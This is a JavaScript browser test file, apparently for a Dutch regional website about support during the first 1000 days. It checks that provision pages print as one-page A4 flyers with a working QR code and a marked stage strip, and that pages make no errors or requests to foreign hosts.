// Prints `path` with page.pdf's defaults into OUT_DIR/NAME.pdf and NAME.png
// and returns { pages, text, qr }: the page count (pdfinfo, which also
// checks the size), the text (pdftotext), what zbarimg decodes from the PNG
// (null when it finds no code). { quick: true } counts the pages in the PDF
// itself, reads no text and scans at 100 dpi instead of 150: for many pages.
async function printFlyer(page, path, name, { quick = false, base = U("") } = {}) {
  const run = (cmd, args) => execFileSync(cmd, args, { encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });
  await page.goto(base + path);
  const pdf = join(OUT_DIR, `${name}.pdf`);
  const bytes = await page.pdf({ format: "A4" });
  writeFileSync(pdf, bytes);
  let pages;
  if (quick) {
    pages = pdfPages(bytes);
  } else {
    const info = run("pdfinfo", [pdf]);
    pages = Number((/^Pages:\s+(\d+)/m.exec(info) || [])[1]);
    assert.match(info, /^Page size:.*\(A4\)/m, `${path}: not an A4 page`);
  }
  run("pdftoppm", ["-png", "-r", quick ? "100" : "150", "-f", "1", "-l", "1", "-singlefile", pdf, join(OUT_DIR, name)]);
  let qr = null;
  try {
    qr = run("zbarimg", ["--quiet", "--raw", "-Sdisable", "-Sqrcode.enable", join(OUT_DIR, `${name}.png`)]).trim();
  } catch (e) {
    if (e.status !== 4) throw e; // 4: the picture holds no code
  }
  const text = quick ? null : run("pdftotext", [pdf, "-"]);
  return { pages, text, qr };
}

// PDF text to search in: pdftotext joins a word broken after a hyphen at a
// line end without the hyphen ("in-de-zwangerschap" comes out as
// "in-dezwangerschap"), so whitespace and hyphens are dropped on both sides.
const flatText = (s) => String(s).replace(/[\s\u00ad-]+/g, "");

area("flyer");
await test("flyer: a provision page on A4 with the default print settings is one page with the region, its address, a QR code to it and the 'Meer informatie' address", async () => {
  assert.ok(PUBLIC_URL && PUBLIC_URL.startsWith("https://"), "content/site.yaml has no public_url");
  const p = data.provisions.find((x) => x.id === "knooppunt");
  assert.ok(p && p.more, "knooppunt has a 'more' link");
  const path = `${REGION}/knooppunt.html`;
  const want = PUBLIC_URL + path;
  const page = await open(null);
  const r = await printFlyer(page, path, "flyer-default-print");
  note(`flyer: ${r.pages} page(s), QR code reads ${JSON.stringify(r.qr)}; PDF and PNG in ${join(OUT_DIR, "flyer-default-print.*")}`);
  assert.equal(r.pages, 1, `${BASE}${path} prints on ${r.pages} pages`);
  assert.equal(r.qr, want, "the QR code does not lead to the page");
  // The address wraps after a '/': compare without the line breaks.
  const flat = flatText(r.text);
  for (const [what, s] of [["region", data.region.name], ["coalition", data.region.coalition], ["title", p.title],
    ["page address", want], ["'Meer informatie' address", p.more]]) {
    assert.ok(flat.includes(flatText(s)), `the PDF text lacks the ${what} ${JSON.stringify(s)}`);
  }
  assert.match(r.text, /Meer informatie over Knooppunt/);
});

// Where the provision falls in the 1000 days, at the foot of the flyer: the
// seven stages in a row, those it covers marked by a thick border, bold type
// and a filled SVG bar (no background colour: Chrome prints none by
// default), the period in words beside the heading.
await test("flyer: a short provision (hielprik, one week) and a long one (taalcafe, four stages) print on one A4 page with the strip of the 1000 days, the stages they cover marked without colour", async () => {
  const page = await open(null);
  const want = { hielprik: ["babyfase"], "taalcafe-nieuwe-ouders": ["zwangerschap", "bevalling", "babyfase", "peuterfase"] };
  for (const [id, marked] of Object.entries(want)) {
    const path = `${REGION}/${id}.html`;
    const r = await printFlyer(page, path, `flyer-strip-${id}`);
    assert.equal(r.pages, 1, `${path} prints on ${r.pages} pages`);
    await page.emulateMedia({ media: "print" });
    const strip = await page.evaluate(() => {
      const s = document.querySelector(".stage-strip");
      const body = document.querySelector(".provision-body").getBoundingClientRect();
      return s && { shown: s.checkVisibility(), top: s.getBoundingClientRect().top, bodyBottom: body.bottom,
        period: s.querySelector(".stage-strip-period").textContent,
        header: document.querySelector(".provision header .period span:last-child").textContent,
        stages: [...s.querySelectorAll("li")].map((li) => {
          const b = li.getBoundingClientRect(), cs = getComputedStyle(li), fill = li.querySelector(".stage-strip-fill");
          const f = fill && fill.getBoundingClientRect();
          return { id: li.dataset.stage, label: li.querySelector(".stage-strip-label").textContent, w: b.width, h: b.height,
            top: b.top, border: parseFloat(cs.borderTopWidth), weight: Number(cs.fontWeight), spoken: li.textContent.includes("(hier)"),
            fill: f && { w: f.width, h: f.height, inside: f.left >= b.left && f.right <= b.right }, fillColour: fill && getComputedStyle(fill).fill };
        }) };
    });
    await page.emulateMedia({ media: null });
    assert.ok(strip && strip.shown, `${path}: no stage strip in print`);
    assert.ok(strip.top >= strip.bodyBottom - 1, `${path}: the strip is not below the text`);
    assert.ok(strip.period && strip.period === strip.header, `${path}: the strip's period in words is ${JSON.stringify(strip.period)}, the header's ${JSON.stringify(strip.header)}`);
    assert.deepEqual(strip.stages.map((s) => s.id), ["preconceptie", "zwangerschap", "bevalling", "babyfase", "peuterfase", "derde-jaar", "schoolkind"]);
    assert.equal(new Set(strip.stages.map((s) => Math.round(s.top))).size, 1, `${path}: the stages are not in one row on paper`);
    const got = strip.stages.filter((s) => s.fill).map((s) => s.id);
    assert.deepEqual(got, marked, `${path}: filled bars`);
    for (const s of strip.stages) {
      const on = marked.includes(s.id);
      assert.ok(s.w > 20 && s.h > 10, `${path}: stage ${s.id} is ${s.w}x${s.h} px`);
      assert.equal(s.spoken, on, `${path}: stage ${s.id} ${on ? "lacks" : "has"} the spoken mark`);
      if (on) {
        assert.ok(s.border >= 2.5 && s.weight >= 700, `${path}: marked stage ${s.id} has a ${s.border}px border, weight ${s.weight}`);
        assert.ok(s.fill.w > 0 && s.fill.h > 0 && s.fill.inside, `${path}: the bar of ${s.id} is ${JSON.stringify(s.fill)}`);
        assert.equal(s.fillColour, "rgb(0, 0, 0)", `${path}: the bar of ${s.id} prints black`);
      } else {
        assert.ok(s.border <= 1.5 && s.weight < 700, `${path}: unmarked stage ${s.id} has a ${s.border}px border, weight ${s.weight}`);
      }
    }
    // One week of the babyfase's fifteen periods: a bar of a fifteenth.
    if (id === "hielprik") {
      const baby = strip.stages.find((s) => s.id === "babyfase");
      assert.ok(baby.fill.w < baby.w / 6, `${path}: one week fills ${baby.fill.w} of ${baby.w} px`);
    }
    const flat = flatText(r.text);
    for (const s of ["Wanneer in de 1000 dagen", strip.period, ...strip.stages.map((s) => s.label)])
      assert.ok(flat.includes(flatText(s)), `${path}: the PDF text lacks ${JSON.stringify(s)}`);
  }
  note(`flyers with the strip in ${join(OUT_DIR, "flyer-strip-{hielprik,taalcafe-nieuwe-ouders}.png")}`);
});

await test("flyer: every provision page of every region prints on one A4 page by default, its QR code reading its own address", async () => {
  const page = await open(null);
  const details = listFiles(site.dir, ".html").filter((f) => /^[^/]+\/[^/]+\.html$/.test(f) &&
    !f.endsWith("/index.html") && !f.endsWith("/embed.html") && !f.startsWith("guidance/"));
  const bad = [];
  for (const rel of details) {
    const r = await printFlyer(page, rel, "flyer-check", { quick: true });
    if (r.pages !== 1) bad.push(`${rel}: ${r.pages} pages`);
    if (r.qr !== PUBLIC_URL + rel) bad.push(`${rel}: QR code reads ${JSON.stringify(r.qr)}`);
  }
  for (const ext of ["pdf", "png"]) rmSync(join(OUT_DIR, `flyer-check.${ext}`), { force: true });
  note(`${details.length} flyers printed and scanned, ${bad.length} problems`);
  assert.deepEqual(bad, [], bad.join("; "));
}, { timeoutMs: 300_000 });

await test("flyer: short texts set larger, long ones tighter, each at the top of its class on one A4 page (tests/sites/public-url, public_url under a path)", async () => {
  const other = buildSite(binary, join(SOURCE_DIR, "tests", "sites", "public-url"));
  const server2 = await serve(other.dir);
  // A context of its own: the checks at the end look at requests to the
  // example site's server only. Errors on these pages fail this test.
  const context = await browser.newContext({ ...DESKTOP, locale: "nl-NL" });
  try {
    const publicUrl = "https://routekaart.example.nl/kaart/"; // its site.yaml, with the '/' the generator adds
    const page = await context.newPage();
    const bad = [];
    page.on("console", (m) => { if (m.type() === "error") bad.push(`console error on ${page.url()}: ${m.text()}`); });
    page.on("pageerror", (e) => bad.push(`page error on ${page.url()}: ${e.message}`));
    for (const [id, cls] of [["kort", "flyer-roomy"], ["middel", null], ["lang", "flyer-compact"], ["heel-lang", "flyer-dense"]]) {
      const rel = `flyerregio/${id}.html`;
      const r = await printFlyer(page, rel, `flyer-${id}`, { base: server2.base });
      const got = await page.evaluate(() => document.querySelector("article.provision").className);
      if (!got.split(" ").includes(cls || "provision") || (!cls && /flyer-/.test(got))) bad.push(`${rel}: class "${got}", want ${cls}`);
      if (r.pages !== 1) bad.push(`${rel}: ${r.pages} pages`);
      if (r.qr !== publicUrl + rel) bad.push(`${rel}: QR code reads ${JSON.stringify(r.qr)}`);
      if (!flatText(r.text).includes(flatText("https://example.org/programmas/langdurige-huisbezoeken-in-de-zwangerschap")) && id !== "kort")
        bad.push(`${rel}: the 'Meer informatie' address is not printed`);
    }
    note(`flyers of each length in ${join(OUT_DIR, "flyer-{kort,middel,lang,heel-lang}.png")}`);
    assert.deepEqual(bad, [], bad.join("; "));
  } finally {
    await context.close();
    await server2.close();
    rmSync(other.root, { recursive: true, force: true });
  }
}, { timeoutMs: 180_000 });

await test("flyer: the QR code is on screen from a laptop (1366 px), small and named; not on a phone, which cannot scan itself", async () => {
  const path = `${REGION}/knooppunt.html`;
  const desk = await open(path);
  const q = await desk.evaluate(() => {
    const svg = document.querySelector("svg.qr");
    const b = svg && svg.getBoundingClientRect();
    return svg && { shown: svg.checkVisibility(), w: b.width, h: b.height, role: svg.getAttribute("role"),
      name: svg.getAttribute("aria-label"), paths: svg.querySelectorAll("path").length, children: svg.children.length,
      address: document.querySelector(".page-address").textContent };
  });
  assert.ok(q, "no svg.qr on the page");
  assert.ok(q.shown && q.w >= 96 && Math.abs(q.w - q.h) < 1, `QR code ${q.w}×${q.h}, shown: ${q.shown}`);
  assert.equal(q.role, "img");
  assert.match(q.name || "", /QR-code/);
  assert.equal(q.paths, 1, "one <path> for the whole code");
  assert.equal(q.children, 1);
  assert.equal(q.address, PUBLIC_URL + path);
  const phone = await open(path, { phone: true });
  assert.equal(await phone.locator("svg.qr").isVisible(), false, "the QR code shows on a phone");
});

area("offline");
await offlineChecks({ test, note, browser, binary });
area("embed");
await embedChecks({ browser, test, note, U, region: REGION, open, axe: (page) => runAxe(page, AXE_TAGS), axeReport });

// ---- what all pages did ------------------------------------------------------------

await (await import("./seo.mjs")).default({ area, test, open, U, REGION, data });

everyArea(); // what the pages of this process did
await test("zero console errors and page errors (CSP violations included)", async () => {
  const seen = new Set();
  const lines = [];
  for (const e of consoleErrors) {
    const key = `${e.text} @ ${e.url.replace(ORIGIN, "")}`;
    if (seen.has(key)) continue;
    seen.add(key);
    lines.push(`[${e.test}] ${key}`);
  }
  assert.equal(consoleErrors.length, 0, `${consoleErrors.length} error(s): ${lines.slice(0, 10).join(" | ")}`);
});

await test("no request to any other host", async () => {
  const foreign = requests.filter((r) => {
    if (/^(data|blob):/.test(r.url)) return false;
    return new URL(r.url).origin !== ORIGIN;
  });
  assert.deepEqual(foreign.map((r) => `[${r.test}] ${r.url}`), []);
});

await test("every request stays under /kaart/ and succeeds", async () => {
  const bad = requests.filter((r) => {
    if (/^(data|blob):/.test(r.url)) return false;
    const u = new URL(r.url);
    if (u.origin !== ORIGIN) return false;
    if (u.pathname === "/__axe/axe.min.js") return false;
    return !u.pathname.startsWith(BASE) || (r.status != null && r.status >= 400);
  });
  // The server also sees what the browser asks for by itself (a favicon).
  const outside = [...new Set(server.log.map((r) => r.path).filter((p) => !p.startsWith(BASE) && p !== "/__axe/axe.min.js"))];
  assert.deepEqual([...bad.map((r) => `[${r.test}] ${r.url} -> ${r.status}`), ...outside.map((p) => `server saw ${p} (outside ${BASE})`)], []);
  note(`${requests.length} requests made by the pages, ${server.log.length} seen by the server`);
});

await browser.close();
await server.close();
rmSync(site.root, { recursive: true, force: true });

runner.finish(chosenArea ? `browser-${chosenArea}.log` : "browser-tests.log");
